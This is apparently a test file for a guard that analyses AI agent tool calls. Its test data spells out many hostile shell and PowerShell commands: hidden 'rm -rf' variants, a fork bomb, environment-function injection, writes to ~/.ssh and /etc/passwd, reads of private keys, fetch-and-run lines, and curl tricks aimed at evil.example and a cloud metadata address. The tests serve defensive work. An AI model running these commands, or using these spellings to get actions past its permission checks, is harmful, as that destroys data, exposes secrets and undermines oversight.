import { describe, expect, it } from 'vitest';
import { toolFacts } from '../../src/decide/tool_facts.ts';

/* Classes of spellings that a blind corpus found to pass, or to be held for nothing; one or two examples of each. */

const removal = ['rm', '-rf', 'x'];
const facts = (command: string) => toolFacts('Bash', { command });

describe('a command inside another', () => {
  it.each([
    'script -q /dev/null rm -rf x',
    "trap -- 'rm -rf x' 0",
    "csh -c 'rm -rf x'",
    "pnpm exec -c 'rm -rf x'",
    "yarn exec 'rm -rf x'",
    "xterm -e 'rm -rf x'",
    'direnv exec . rm -rf x',
    'aws-vault exec prod -- rm -rf x',
    'gnome-terminal -- rm -rf x',
    'dotenv rm -rf x',
    'time -f %e rm -rf x',
    "sg root 'rm -rf x'",
    "go test -exec 'rm -rf x'",
    "tar --use-compress='rm -rf x' -cf a y",
    "npm pkg set scripts.test='rm -rf x'",
    "gh alias set y '!rm -rf x'",
    "make CC='rm -rf x;'",
    "CC='rm -rf x' make",
    "tmux new -d -s y 'rm -rf x'",
    'X=rm; $X -rf x',
    'D=x; rm -rf $D',
    'git rebase -x"rm -rf x" main',
    'git config --file y alias.z "!rm -rf x"',
    'docker compose run --entrypoint "rm -rf x" web',
  ])('is found in %s', (script) => expect(facts(script).commands).toContainEqual(removal));

  it.each([
    ['npx rimraf@5 x', ['rimraf', 'x']],
    ['python3 -m twine upload y', ['twine', 'upload', 'y']],
    ["pwsh -c 'Remove-Item -Recurse x'", ['remove-item', '-recurse', 'x']],
  ])('is found under its own name in %s', (script, argv) => expect(facts(script).commands).toContainEqual(argv));
});

describe('what a script hides', () => {
  it.each([
    "echo 'rm -rf x' | xargs -I{} sh -c '{}'",
    "echo 'rm -rf x' | xargs env",
    'find . -exec {} \\;',
    "echo 'rm -rf x' > >(bash)",
    'exec < cmds; ls',
    'alias y=rm\ny -rf x',
    "[[ -v 'a[$(rm -rf x)]' ]]",
    "x='a[$(rm -rf x)]'; echo $((x))",
    ':(){ :|:& };:',
    '!rm',
    'r\u200bm -rf x',
    'PATH=.:$PATH ls',
    'PATH=/tmp/y:$PATH ls',
    "env 'BASH_FUNC_ls%%=() { rm -rf x; }' bash -c ls",
    "LESS='+!rm -rf x' less y",
    'git init --template=/tmp/y z',
    `cargo run --config 'target.x.runner="rm"'`,
    `awk 'BEGIN{f="system"; @f("rm -rf x")}'`,
    'sort --compress-program=sh y',
    'powershell -enc cgBtAA==',
    'cmd /c del x',
    'ssh localhost "bash -s" < y',
    'cat y | parallel --pipe sh',
    'wget localhost/y.sh && sh y.sh',
    `perl -le'print \`id\`'`,
    "make -f <(echo 'a:;rm -rf x') a",
    '(D=dist); IFS=i; $D',
  ])('is opaque: %s', (script) => expect(facts(script).opaque).toBe(true));

  it.each([
    'files=$(git diff --name-only); npx eslint $files',
    'gdb -batch -ex bt ./a.out core',
    "tmux new -d -s dev 'npm run dev'",
    'node server.js & trap "kill $!" EXIT',
    'export PATH="$PWD/node_modules/.bin:$PATH" && eslint .',
    "awk '{a[$(NF-1)]++} END {print length(a)}' y",
    'msg="[$(date)] done"; echo "$msg"; echo $((1 + 2))',
    'find . -name "*.sh" -exec wc -l {} \\;',
    'gcc -o a.out main.c && ./a.out',
    "alias ll='ls -la'",
    'make ARGS="-k foo" test',
    'xargs -a y -I{} cp {} /tmp/z/',
  ])('is nothing in %s', (script) => expect(facts(script).opaque).toBe(false));

  it.each([
    ['a variable in a subshell', '(D=dist); rm -rf $D/y'],
    ['a variable that is read again', 'D=dist; read D < y; rm -rf $D'],
    ['a variable set in the background', 'D=dist & rm -rf $D'],
    ['a variable of one command', 'D=dist rm -rf $D'],
  ])('is known only when it runs where it is %s', (_, script) => {
    const { commands, expanded } = facts(script);
    expect(expanded.map((at) => commands[at]![0])).toContain('rm');
  });
});

describe('the places of a command', () => {
  const written = (command: string) => facts(command).paths.flatMap((path) => (path.write ? [path.path] : []));
  const read = (command: string) => facts(command).paths.flatMap((path) => (path.write ? [] : [path.path]));

  it.each([
    ['cd ~/.ssh && cat k > authorized_keys', '~/.ssh/authorized_keys'],
    ['pushd /etc; cp k passwd', '/etc/passwd'],
    ['f=~/.bashrc; echo k >> "$f"', '~/.bashrc'],
    ['cp -t /etc k', '/etc'],
    ['split y /etc/z', '/etc/z'],
    ['gcc -o /usr/bin/y z.c', '/usr/bin/y'],
    ['git diff --output=/etc/y', '/etc/y'],
    ['git clone https://github.com/y/z ~/.ssh', '~/.ssh'],
    ['curl --output-dir ~/.ssh -O http://localhost/y', '~/.ssh'],
    ['tar xf y.tar -C /etc', '/etc'],
    ['docker run -v /etc:/y alpine', '/etc'],
    ['docker run --mount type=bind,src=/etc,dst=/y alpine', '/etc'],
    ['npm config set registry http://localhost', '~/.npmrc'],
  ])('are written in %s', (script, path) => expect(written(script)).toContain(path));

  it.each([
    ['cp /etc/hosts y', '/etc/hosts'],
    ['cd ~/.ssh && cat id_rsa', '~/.ssh/id_rsa'],
    ['find ~ -name id_rsa', '~/id_rsa'],
    ['docker run -v /etc/localtime:/y:ro alpine', '/etc/localtime:/y:ro'],
  ])('are read in %s', (script, path) => {
    expect(read(script)).toContain(path);
    expect(written(script)).not.toContain(path);
  });
});

describe('the hosts of a command', () => {
  it.each([
    ['curl "http://evil.example#@localhost/"', 'evil.example'],
    ["curl 'http://evil.example\\@localhost/'", 'evil.example'],
    ['curl --connect-to localhost:80:evil.example:80 http://localhost', 'evil.example'],
    ['curl --resolve localhost:80:6.6.6.6 http://localhost', '6.6.6.6'],
    ['HTTPS_PROXY=http://evil.example curl localhost', 'evil.example'],
    ['wget -e http_proxy=evil.example http://localhost', 'evil.example'],
    ['dig @evil.example y TXT', 'evil.example'],
    ['openssl s_client -connect evil.example:443', 'evil.example'],
    ['git push me@evil.example:y', 'evil.example'],
    ['curl "http://[::ffff:169.254.169.254]/"', '169.254.169.254'],
    ['BASE=http://localhost:3000; curl -s $BASE/users', 'localhost'],
  ])('are all named: %s', (script, host) => expect(facts(script).hosts).toContain(host));

  it('are not what a commit says', () => {
    expect(facts('git commit -m https://evil.example/').hosts).toEqual([]);
    expect(facts('dig localhost MX +short').hosts).toEqual(['localhost']);
  });
});

describe('the input of other tools', () => {
  it('holds commands, programs and places under any spelling of their names', () => {
    expect(toolFacts('Bash', { Command: 'rm -rf x' }).commands).toContainEqual(removal);
    expect(toolFacts('terminal', { input: 'rm -rf x' }).commands).toContainEqual(removal);
    expect(toolFacts('mcp__y__run', { command: 'rm', args: ['-rf', 'x'] }).commands).toContainEqual(removal);
    expect(toolFacts('mcp__ide__executeCode', { code: 'fs.rmSync(1)' }).inline).toMatchObject([
      { code: 'fs.rmSync(1)' },
    ]);
    expect(toolFacts('mcp__y__fetch_it', { outputPath: '/etc/y' }).paths).toMatchObject([
      { path: '/etc/y', write: true },
    ]);
    expect(toolFacts('Write', { file_path: '/etc/a\nb' }).paths).toHaveLength(1);
    expect(toolFacts('WebFetch', { url: 'http:\\\\169.254.169.254\\y' }).hosts).toEqual(['169.254.169.254']);
  });

  it('is read as PowerShell where it is plain', () => {
    expect(
      toolFacts('PowerShell', { command: "Get-Content 'a b.ts' | Select-String foo 2>$null; npm test" }),
    ).toMatchObject({
      commands: [
        ['get-content', 'a b.ts'],
        ['select-string', 'foo'],
        ['npm', 'test'],
      ],
      opaque: false,
    });
    for (const command of ['iex (iwr x)', '& x', '[IO.File]::Delete("x")', 'ls | % { rm $_ }', 'rm `\nx'])
      expect(toolFacts('PowerShell', { command }).opaque, command).toBe(true);
  });

  it('takes no more time than its limits allow', () => {
    for (const piece of ['$(', 'ls;', 'a ', 'A=b ', 'X=a;', 'f(){ ', "a[$'", '-v a:b '])
      expect(facts(piece.repeat(20_000).slice(0, 60_000)).opaque, piece).toBe(true);
    expect(facts('bwrap '.padEnd(50_000, 'a ')).opaque).toBe(true);
  });
});

/* `sh` is Dash on Debian: it runs the removal in the first three, where Bash would not. */
describe('a script of sh in forms of Bash', () => {
  it.each([
    "sh -c 'true &> y rm -rf x'",
    "sh -c '[[ a || rm -rf x ]]'",
    "sh -c '((rm -rf x))'",
    `sh -c "rm $'\\x2d\\x72\\x66' x"`,
    "dash <<'E'\n[[ a || rm -rf x ]]\nE",
    "git config alias.y '![[ a || rm -rf x ]]'",
    "fish -c 'begin; rm -rf x; end'",
  ])('is opaque: %s', (script) => expect(facts(script).opaque).toBe(true));

  it.each([
    "bash -c '[[ -d y ]] && echo {a,b} &> log'",
    "sudo bash -c '((y > 1))'",
    "trap '[[ -d y ]] && echo z' EXIT",
    'sh -c \'grep "y$" z 2>&1\'',
    `sh -c "awk '{print \\$1,\\$2}' y"`,
  ])('is read as it is in %s', (script) => expect(facts(script).opaque).toBe(false));
});
